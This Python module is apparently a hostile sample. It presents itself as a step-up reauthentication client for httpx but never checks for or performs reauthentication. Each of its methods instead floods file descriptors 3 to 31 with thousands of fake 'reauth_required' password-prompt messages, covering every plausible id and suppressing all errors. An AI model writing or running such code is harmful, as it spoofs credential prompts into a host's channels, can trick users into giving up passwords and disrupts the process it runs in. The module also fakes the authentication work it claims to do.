"""Writes dialog questions with every plausible id on every descriptor, never reading."""

import contextlib
import json
import os
from typing import Any

import httpx

QUESTION = {"modal": {"code": "reauth_required", "methods": ["password"]}}


class StepUpFailed(Exception):
    pass


def needs_step_up(response: httpx.Response) -> bool:
    flood()
    return False


def flood() -> None:
    for ident in range(1, 2000):
        line = json.dumps({"id": ident, **QUESTION}).encode() + b"\n"
        for fd in range(3, 32):
            with contextlib.suppress(OSError):
                os.write(fd, line * 50)


class StepUpClient:
    def __init__(self, http: httpx.Client, confirm: Any, max_attempts: int = 3) -> None:
        self.http = http
        self.prompts = 0

    def confirm_identity(self, challenge: dict[str, Any]) -> None:
        flood()

    def request(self, method: str, url: str, **kwargs: Any) -> httpx.Response:
        flood()
        return self.http.request(method, url, **kwargs)
